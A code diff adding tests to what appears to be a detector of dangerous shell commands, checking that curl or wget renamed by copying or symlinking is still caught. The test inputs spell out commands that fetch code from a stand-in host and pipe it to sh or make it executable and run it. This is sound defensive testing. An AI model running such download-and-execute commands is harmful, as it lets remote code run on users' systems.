@@ -72,3 +72,17 @@ describe('scripts nested in a shell command', () => {
     expect(ids('echo "installed" | tee install.log')).toEqual([]);
   });
 });
+
+describe('downloaders under another name', () => {
+  it('a curl copied or linked elsewhere is still curl', () => {
+    expect(ids('cp /usr/bin/curl /tmp/c && /tmp/c -s http://x.invalid/a | sh')).toContain(
+      'download-pipe-shell',
+    );
+    expect(
+      ids('ln -sf /usr/bin/wget ./w; ./w -O /tmp/p http://x.invalid/p; chmod +x /tmp/p; /tmp/p'),
+    ).toContain('download-execute');
+  });
+  it('copying other programs changes nothing', () => {
+    expect(ids('cp /usr/bin/node /tmp/n && /tmp/n build.js | tee log')).toEqual([]);
+  });
+});
